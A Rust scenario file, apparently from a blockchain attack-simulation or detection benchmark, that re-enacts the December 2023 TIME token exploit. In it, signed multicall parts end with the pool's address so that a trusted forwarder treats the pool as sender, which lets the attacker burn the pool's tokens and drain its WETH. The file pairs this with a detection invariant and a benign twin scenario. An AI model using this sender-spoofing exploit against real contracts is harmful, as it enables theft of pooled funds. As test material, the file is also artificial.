//! The sender whom a call's last bytes name, in a batch whose parts its author wrote: TIME (December 2023).

use alloy_primitives::keccak256;
use anyhow::{Result, ensure};
use facts::{Address, B256, Bytes, U256};

use crate::{
    Arg as _, Scenario, Stage, Tuple, WETH, args, call_data, encode, ether,
    scenarios::{
        cast::{CITIZENS, paired, rich, wrap},
        declare::Invariant,
        props::{held, out_of_a_mixer, send_token, signed, units},
    },
};

pub(super) const SPOOFED_SENDER: Scenario = Scenario {
    id: "access/missing-check/spoofed-sender",
    about: "a token believes the last bytes of what its forwarder brings, also inside a batch that the signer wrote himself; \
            he ends a part with the pool's address, which burns what it holds (TIME, December 2023)",
    attack,
    twin,
};

struct Market {
    relayer: Address,
    maker: Address,
    forwarder: Address,
    token: Address,
    pool: Address,
    supply: U256,
}

/// What somebody signs for the forwarder: a batch of calls of the token.
fn request(
    stage: &Stage<'_>,
    market: &Market,
    (name, from, nonce): (&str, Address, u64),
    calls: Vec<Bytes>,
) -> Result<(Tuple, Bytes)> {
    let data = call_data("multicall(bytes[])", args![calls]);
    let said = args![market.forwarder, 31_337u64, from, market.token, nonce, keccak256(&data)];
    let signature = signed(stage, name, keccak256(encode(said)))?;
    Ok((Tuple(args![from, market.token, nonce, data]), signature))
}

/// A holder signs a batch, and the relayer brings it. Each part ends with the holder's address, as his library writes it.
fn forward(stage: &mut Stage<'_>, market: &Market, (name, nonce): (&str, u64), calls: &[Bytes]) -> Result<B256> {
    let from = stage.actor(name);
    let ended = |call: &Bytes| Bytes::from([call.as_ref(), from.as_slice()].concat());
    let (request, signature) = request(stage, market, (name, from, nonce), calls.iter().map(ended).collect())?;
    let ask = "execute((address,address,uint256,bytes),bytes)";
    Ok(stage.call(market.relayer, market.forwarder, ask, vec![request.value(), signature.value()]))
}

fn transfer(to: Address, amount: U256) -> Bytes {
    call_data("transfer(address,uint256)", args![to, amount])
}

fn market(stage: &mut Stage<'_>) -> Result<Market> {
    let (maker, relayer) = (rich(stage, "maker", 100_000), stage.actor("relayer"));
    let forwarder = stage.deploy(maker, "TrustedForwarder", args![])?;
    let supply = stage.amount(units(62_000_000, 18));
    let token = stage.deploy(maker, "GaslessToken", args![forwarder, supply])?;
    let coins = stage.amount(ether(900));
    wrap(stage, maker, coins);
    stage.mine()?;
    let pool = paired(stage, maker, (token, supply / U256::from(2)), (WETH, coins))?;
    for (contract, name) in [(token, "token"), (forwarder, "forwarder"), (pool, "pool")] {
        stage.protect(contract, name);
    }
    // Nobody burns what the pool holds.
    let broken = format!(
        "flow.token == address(\"{token:#x}\") && flow.from == address(\"{pool:#x}\") && flow.to == address(\"{:#x}\")",
        Address::ZERO
    );
    Invariant { id: "pool-burns-nothing", kind: "access/missing-check", on: "flow", broken, about: token, asks: None }
        .declare(stage);
    stage.pass(1)?;
    let market = Market { relayer, maker, forwarder, token, pool, supply };
    for name in CITIZENS {
        let person = stage.actor(name);
        send_token(stage, token, maker, person, supply / U256::from(50));
    }
    stage.pass(1)?;
    for (n, name) in CITIZENS.into_iter().enumerate() {
        let next = stage.actor(CITIZENS[(n + 1) % CITIZENS.len()]);
        let shop = stage.actor("shop");
        let some = supply / U256::from(4_000);
        forward(stage, &market, (name, 0), &[transfer(next, some), transfer(shop, some)])?;
        stage.pass(1)?;
    }
    Ok(market)
}

fn attack(stage: &mut Stage<'_>) -> Result<()> {
    let market = market(stage)?;
    let before = held(stage, WETH, market.pool)?;
    let thief = out_of_a_mixer(stage, "thief", 1)?;
    stage.transfer(crate::EXCHANGE, thief, stage.amount(ether(95)));
    let payee = stage.payee(thief);
    stage.mine()?;
    let had = stage.balance(payee)?;
    let coins = stage.amount(ether(90)) / U256::from(stage.variation.parts);
    let mut at = None;
    for nonce in 0..stage.variation.parts {
        let burnt = held(stage, market.token, market.pool)? * U256::from(9) / U256::from(10);
        let burn = call_data("burn(uint256)", args![burnt]);
        // The part is said to come from the pool.
        let burn = Bytes::from([burn.as_ref(), market.pool.as_slice()].concat());
        let (request, signature) = request(stage, &market, ("thief", thief, nonce), vec![burn])?;
        let ask = "run(address,(address,address,uint256,bytes),bytes,address,address)";
        let args =
            vec![market.forwarder.value(), request.value(), signature.value(), market.pool.value(), payee.value()];
        match at {
            None => at = Some(stage.deploy_and_strike(thief, "SenderThief", coins, ask, args)?),
            Some(at) => {
                stage.attack(|stage| stage.strike(thief, at, coins, ask, args))?;
            }
        }
        stage.between_parts()?;
    }
    let (left, has) = (held(stage, WETH, market.pool)?, stage.balance(payee)?);
    ensure!(left < before / U256::from(3), "{left} of {before} are left");
    ensure!(has > had + before / U256::from(2), "the thief has {has} after {had}");
    Ok(())
}

/// The maker burns half of what it kept and pays salaries in one signed batch, and whoever holds much sells it.
fn twin(stage: &mut Stage<'_>) -> Result<()> {
    let market = market(stage)?;
    let Market { token, pool, supply, .. } = market;
    let kept = held(stage, token, market.maker)?;
    let mut calls = vec![call_data("burn(uint256)", args![kept / U256::from(2)])];
    for n in 0..6 {
        let worker = stage.actor(&format!("worker {n}"));
        calls.push(transfer(worker, supply / U256::from(200)));
    }
    forward(stage, &market, ("maker", 0), &calls)?;
    stage.pass(1)?;
    let had = held(stage, WETH, pool)?;
    let mut sold = U256::ZERO;
    for (nonce, name) in [(1u64, "alice"), (1, "bob"), (1, "carol")] {
        let seller = stage.actor(name);
        let amount = held(stage, token, seller)?;
        let approve = call_data("approve(address,uint256)", args![pool, amount]);
        forward(stage, &market, (name, nonce), &[approve])?;
        stage.call(seller, pool, "sell(address,uint256,address)", args![token, amount, seller]);
        stage.between_parts()?;
        sold += held(stage, WETH, seller)?;
    }
    let left = held(stage, WETH, pool)?;
    ensure!(!sold.is_zero() && left + sold == had, "{sold} of {had} were paid");
    Ok(())
}
